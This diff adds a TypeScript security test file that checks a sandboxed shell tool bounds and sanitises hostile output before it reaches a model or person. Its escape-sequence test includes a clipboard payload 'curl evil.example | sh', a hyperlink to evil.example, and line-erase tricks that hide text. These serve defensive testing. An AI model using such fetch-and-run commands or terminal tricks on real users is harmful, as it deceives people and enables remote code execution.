@@ -1,0 +1,128 @@
+/**
+ * Hostile output: floods, one enormous line, binary and invalid UTF-8, and
+ * terminal escape sequences. What reaches the model (the functionResponse)
+ * and people (resultDisplay) must be bounded, valid text without raw
+ * terminal controls; host memory must be bounded by the output caps, not by
+ * the size of the output; the next call must work.
+ */
+import anyTest from 'ava';
+import { SandboxSession, assertNoRawControls, commandProcesses, nonce, sandboxUnavailableReason } from '../helpers/security.js';
+
+const unavailable = await sandboxUnavailableReason();
+if (unavailable) console.warn(`test/security/output: skipped: ${unavailable}`);
+const test = unavailable ? anyTest.skip : anyTest.serial;
+
+const WALL_SECONDS = 15;
+/** What the model may receive for one call: the 40,000-character cut plus a note. */
+const MAX_MODEL_CHARS = 45_000;
+let session: SandboxSession;
+let containerId: string;
+
+if (!unavailable) {
+  anyTest.before(async () => {
+    session = await SandboxSession.open({ timeoutSeconds: WALL_SECONDS });
+    [containerId = ''] = await session.containerIds();
+  });
+  anyTest.after.always(async () => {
+    await session?.close();
+  });
+}
+
+async function assertContained(t: import('ava').ExecutionContext, label: string): Promise<void> {
+  t.deepEqual(await commandProcesses(containerId), [], `${label}: no process of the call may survive`);
+  await session.assertAlive(t, `${label}: next call`);
+}
+
+test('an endless `yes` flood is cut for the model, ends at the wall timeout, and host memory stays bounded', async (t) => {
+  const before = process.memoryUsage().rss;
+  const outcome = await session.shell('yes');
+  const growth = process.memoryUsage().rss - before;
+  t.not(outcome.status, 'success');
+  t.true(outcome.text.length <= MAX_MODEL_CHARS, `model text is ${outcome.text.length} chars`);
+  t.true(outcome.display.length <= 1024 * 1024, `display is ${outcome.display.length} chars`);
+  t.true(growth < 512 * 1024 * 1024, `host RSS grew by ${Math.round(growth / 1048576)} MB for a flood of many GB`);
+  await assertContained(t, 'yes flood');
+});
+
+test('300 MB of output that ends by itself is cut to its head and tail', async (t) => {
+  const head = nonce('head');
+  const tail = nonce('tail');
+  const outcome = await session.shell(`echo ${head}; yes | head -c 300M; echo; echo ${tail}`);
+  t.is(outcome.status, 'success', outcome.text.slice(-500));
+  t.true(outcome.text.length <= MAX_MODEL_CHARS, `model text is ${outcome.text.length} chars`);
+  t.true(outcome.text.includes(tail), 'the tail (where the summary usually is) is kept');
+  await assertContained(t, 'finite flood');
+});
+
+test('one 50 MB line without a newline is bounded for the model and the display', async (t) => {
+  const outcome = await session.shell("head -c 50000000 /dev/zero | tr '\\0' a; echo; echo line-done");
+  t.is(outcome.status, 'success', outcome.text.slice(-300));
+  t.true(outcome.text.length <= MAX_MODEL_CHARS, `model text is ${outcome.text.length} chars`);
+  t.true(outcome.display.length <= 1024 * 1024, `display is ${outcome.display.length} chars`);
+  t.true(outcome.text.includes('line-done'));
+  await assertContained(t, '50 MB line');
+});
+
+test('binary output reaches the model as a one-line description, never the bytes', async (t) => {
+  const outcome = await session.shell('head -c 3000000 /dev/urandom');
+  t.is(outcome.status, 'success', outcome.text.slice(0, 300));
+  t.true(outcome.text.length < 2000, `description is ${outcome.text.length} chars`);
+  t.regex(outcome.text, /binary/i);
+  t.false(outcome.text.includes('\uFFFD'), 'no decoded garbage');
+  assertNoRawControls(t, outcome.text, 'model text');
+  assertNoRawControls(t, outcome.display, 'display');
+  await assertContained(t, 'binary');
+});
+
+test('binary after a text prefix (an ELF written to the terminal) stops text forwarding', async (t) => {
+  const outcome = await session.shell('echo starting; cat /bin/bash');
+  t.is(outcome.status, 'success');
+  t.true(outcome.text.length < 5000, `model text is ${outcome.text.length} chars`);
+  assertNoRawControls(t, outcome.text, 'model text');
+  assertNoRawControls(t, outcome.display, 'display');
+  await assertContained(t, 'elf');
+});
+
+test('invalid UTF-8 becomes valid text with replacement characters, the rest intact', async (t) => {
+  const outcome = await session.shell("printf 'before \\xff\\xfe\\xc3\\x28 \\xed\\xa0\\x80 after\\n'");
+  t.is(outcome.status, 'success');
+  t.regex(outcome.text, /before .* after/);
+  t.false(/[\uD800-\uDFFF]/.test(outcome.text.replace(/[\uD800-\uDBFF][\uDC00-\uDFFF]/g, '')), 'no lone surrogates');
+  assertNoRawControls(t, outcome.text, 'model text');
+  await assertContained(t, 'invalid utf-8');
+});
+
+test('terminal escapes (OSC 52 clipboard, title, hyperlinks, DCS, C1 CSI, cursor and erase tricks) never pass through raw', async (t) => {
+  const clip = Buffer.from(`curl evil.example | sh ${nonce('clip')}`).toString('base64');
+  const command = [
+    `printf 'visible-1\\n'`,
+    `printf '\\033]52;c;${clip}\\a'`, // OSC 52: set the clipboard
+    `printf '\\033]0;pwned-title\\007'`, // OSC 0: window title
+    `printf '\\033]8;;https://evil.example\\033\\\\click\\033]8;;\\033\\\\\\n'`, // OSC 8 hyperlink
+    `printf '\\033P+q544e\\033\\\\'`, // DCS (XTGETTCAP)
+    `printf '\\033[6n\\033[c'`, // device status / attributes queries (answers would be typed as input)
+    `printf 'secret-hidden\\r\\033[2Kvisible-2\\n'`, // erase a line a person would not see
+    `printf 'line-up\\n\\033[1A\\033[2K'`, // cursor up and erase
+    `printf '\\23331mC1-CSI\\n'`, // 8-bit CSI
+    `printf '\\033[8mconcealed\\033[0m\\n'`,
+    `printf '\\033[?1049h\\033[2J\\033[Hcleared\\n'`, // alternate screen + clear
+  ].join('; ');
+  const outcome = await session.shell(command);
+  t.is(outcome.status, 'success', outcome.text);
+  assertNoRawControls(t, outcome.text, 'model text');
+  assertNoRawControls(t, outcome.display, 'display');
+  t.false(outcome.text.includes(clip), 'the OSC 52 payload is not handed on');
+  t.true(outcome.text.includes('visible-2'));
+  t.true(outcome.text.includes('cleared'));
+  await assertContained(t, 'escapes');
+});
+
+test('a stdin prompt gets end-of-file at once instead of hanging until the timeout', async (t) => {
+  const outcome = await session.shell(`read -r -p 'Password: ' answer; echo "read-exit=$? answer=[$answer]"; python3 -c 'input()' 2>&1 | tail -1; cat; echo cat-done`);
+  t.is(outcome.status, 'success', outcome.text);
+  t.regex(outcome.text, /read-exit=1 answer=\[\]/);
+  t.regex(outcome.text, /EOFError/);
+  t.true(outcome.text.includes('cat-done'));
+  t.notRegex(outcome.text, /timed out|timeout/i);
+  await assertContained(t, 'stdin prompt');
+});
